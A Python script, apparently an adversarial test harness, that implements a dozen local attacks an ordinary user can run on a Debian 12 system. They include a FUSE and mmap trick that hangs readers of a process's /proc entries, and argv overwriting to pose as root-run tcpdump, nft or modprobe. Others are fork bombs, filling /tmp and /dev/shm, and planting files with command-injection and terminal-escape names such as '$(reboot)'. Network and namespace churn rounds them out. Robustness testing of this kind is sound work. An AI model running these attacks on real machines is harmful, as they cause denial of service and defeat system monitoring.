#!/usr/bin/python3
"""What anybody with an account may do to a machine on which something is to be undone. Run as that user:

    attacker.py ATTACK [ARGUMENT]

Says `ready PID` when it is under way, PID being a process that others may look at, and goes on until it is killed.
Nothing here needs a right that a user lacks on a Debian 12.
"""
import ctypes
import errno
import json
import os
import pty
import resource
import signal
import stat
import struct
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWNET = 0x00020000, 0x10000000, 0x40000000
PR_SET_PDEATHSIG = 1


def ready(pid=None):
    print("ready", pid or os.getpid(), flush=True)


def wait_for_ever():
    while True:
        signal.pause()


def called(result, what):
    if result != 0:
        raise OSError(ctypes.get_errno(), f"{what}: {os.strerror(ctypes.get_errno())}")


def unshare(flags):
    """Into namespaces of our own, in which we are root; the users of the machine stay who they are."""
    uid, gid = os.getuid(), os.getgid()
    called(libc.unshare(flags | NEWUSER), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def mount(source, target, kind, flags, data):
    called(libc.mount(source.encode(), target.encode(), kind.encode(), flags, data.encode()), f"mount {kind}")


def child(run):
    """A process that ends with us."""
    pid = os.fork()
    if pid == 0:
        libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
        try:
            run()
        finally:
            os._exit(1)
    return pid


# include/uapi/linux/fuse.h
LOOKUP, FORGET, GETATTR, OPEN, READ, INIT, INTERRUPT, BATCH_FORGET = 1, 2, 3, 14, 15, 26, 36, 42


def attributes(node):
    size, mode = (0, stat.S_IFDIR | 0o755) if node == 1 else (1 << 20, stat.S_IFREG | 0o644)
    return struct.pack("<6Q10I", node, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(device):
    """A file system with one file that can be opened and never be read."""
    while True:
        try:
            asked = os.read(device, 1 << 18)
        except InterruptedError:
            continue
        _, what, unique, node = struct.unpack_from("<IIQQ", asked)
        error, body = 0, b""
        if what == INIT:
            body = struct.pack("<4I2H2I2HI7I", 7, 31, 0, 0, 0, 0, 4096, 0, 0, 0, 0, *[0] * 7)
        elif what == LOOKUP:
            body = struct.pack("<4Q2I", 2, 0, 9999, 9999, 0, 0) + attributes(2)
        elif what == GETATTR:
            body = struct.pack("<Q2I", 9999, 0, 0) + attributes(node)
        elif what == OPEN:
            body = struct.pack("<Q2I", 1, 0, 0)
        elif what in (READ, FORGET, INTERRUPT, BATCH_FORGET):
            continue
        else:
            error = -errno.ENOSYS
        os.write(device, struct.pack("<IiQ", 16 + len(body), error, unique) + body)


def fuse(device="/dev/fuse"):
    """
    A process of which nobody can read cmdline, environ or maps: one thread reads the file of `serve` through its own
    memory and waits there with the lock of that memory, the other one waits to change it, and every reader waits behind.
    """
    unshare(NEWNS)
    fd = os.open(device, os.O_RDWR)
    mount("tmpfs", "/mnt", "tmpfs", 0, "")
    os.mkdir("/mnt/f")
    mount("fuse", "/mnt/f", "fuse", 0, f"fd={fd},rootmode=40000,user_id=0,group_id=0")
    threading.Thread(target=serve, args=(fd,), daemon=True).start()
    hung, end = os.pipe()

    def hang():
        # The end of the server must be the end of the file system.
        os.close(fd)
        file = os.open("/mnt/f/x", os.O_RDONLY)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
        place = libc.mmap(None, 1 << 16, 1, 2, file, 0)
        memory = os.open("/proc/self/mem", os.O_RDONLY)
        threading.Thread(target=lambda: os.pread(memory, 1, place), daemon=True).start()
        time.sleep(1)
        os.write(end, b".")
        libc.mmap(None, 4096, 1, 0x22, -1, 0)
        wait_for_ever()

    pid = child(hang)
    os.read(hung, 1)
    time.sleep(1)
    ready(pid)
    os.waitpid(pid, 0)


def arguments(count="800"):
    """Many processes with 6 MB of arguments, the most that the kernel takes."""
    if len(sys.argv) < 10:
        resource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        os.execv("/usr/bin/python3", ["python3", sys.argv[0], "arguments", count] + ["x" * 131000] * 45)
    for _ in range(int(count)):
        child(wait_for_ever)
    ready()
    wait_for_ever()


def masked(words):
    """
    A process with just these arguments: started with others of the same length, which it then overwrites. A program of
    the system would read them as its own.
    """
    wanted = b"".join(word.encode() + b"\0" for word in words)
    mine = ["python3", sys.argv[0], "m"]
    mine[2] += "m" * (len(wanted) - sum(len(word) + 1 for word in mine))
    os.execve("/usr/bin/python3", mine, {**os.environ, "ATTACKER_WORDS": json.dumps(words)})


def overwrite():
    wanted = b"".join(word.encode() + b"\0" for word in json.loads(os.environ["ATTACKER_WORDS"]))
    with open("/proc/self/stat") as file:
        fields = file.read().rsplit(")", 1)[1].split()
    begin, end = int(fields[45]), int(fields[46])
    ctypes.memmove(begin, wanted, min(len(wanted), end - begin))
    ready()
    wait_for_ever()


READER = ["/usr/bin/tcpdump", "-n", "-Z", "root", "-B", "32768", "--immediate-mode", "-U", "-i", "nflog:0", "-w", "-"]


def reader():
    masked(READER)


def keeper(marker):
    masked(["/usr/sbin/nft", "-i", "-I", marker])


def modprobe():
    masked(["/sbin/modprobe", "--quiet", "--use-blacklist", "nf_log_syslog"])


def su(marker, program="/bin/su"):
    """A program that is root by its file and has our words, for as long as it waits for a password."""
    before = ["su", "root", "--"] if program.endswith("/su") else ["su", "--", "-"]
    pid, _ = pty.fork()
    if pid == 0:
        os.execv(program, before + ["-I", marker])
    time.sleep(2)
    ready(pid)
    wait_for_ever()


def bomb(most="100"):
    """Forks as often as it may, and each of them is busy."""
    resource.setrlimit(resource.RLIMIT_NPROC, (int(most), int(most)))
    ready()
    while True:
        try:
            os.fork()
        except OSError:
            pass


def sessions(most="100"):
    """The same, each in a session of its own: where the scheduler is fair to sessions, each of them counts."""
    resource.setrlimit(resource.RLIMIT_NPROC, (int(most), int(most)))
    ready()
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def fill():
    """No room is left where everybody may write."""
    for folder in ("/tmp", "/dev/shm"):
        with open(f"{folder}/filler-{os.getpid()}", "wb", buffering=0) as file:
            try:
                while True:
                    file.write(bytes(1 << 16))
            except OSError:
                pass
    ready()
    wait_for_ever()


HOSTILE = ["\n", "\x1b]0;owned\x07", "\x1b[2J", "ctscope", "ctscope\nctscope", "\udcff\udcfe", "-rf", "$(reboot)", "..."]


def names():
    """Files, links and pipes whose names hold line ends and escapes, or that look like ours."""
    for folder in ("/tmp", "/dev/shm"):
        for number, name in enumerate(HOSTILE * 20):
            path = f"{folder}/{name}{number}"
            if number % 3 == 0:
                open(path, "w").close()
            elif number % 3 == 1:
                os.symlink("/etc/passwd", path)
            else:
                os.mkfifo(path)
    ready()
    wait_for_ever()


def namespaces():
    """Users and networks of its own, made and gone again and again: their numbers come back."""
    ready()
    while True:
        pid = os.fork()
        if pid == 0:
            unshare(NEWNET)
            os._exit(0)
        os.waitpid(pid, 0)


def devices(count="200"):
    """Makes and removes interfaces in a network of its own: the lock for that is one for the whole kernel."""
    unshare(NEWNET)
    ready()
    add = "".join(f"link add d{number} type dummy\n" for number in range(int(count)))
    remove = "".join(f"link del d{number}\n" for number in range(int(count)))
    while True:
        for batch in (add, remove):
            subprocess.run(["ip", "-force", "-batch", "-"], input=batch.encode(), stderr=subprocess.DEVNULL)


ATTACKS = (fuse, arguments, reader, keeper, modprobe, su, bomb, sessions, fill, names, namespaces, devices)

if "ATTACKER_WORDS" in os.environ:
    overwrite()
for attack in ATTACKS:
    if attack.__name__ == sys.argv[1]:
        attack(*sys.argv[2:][: attack.__code__.co_argcount])
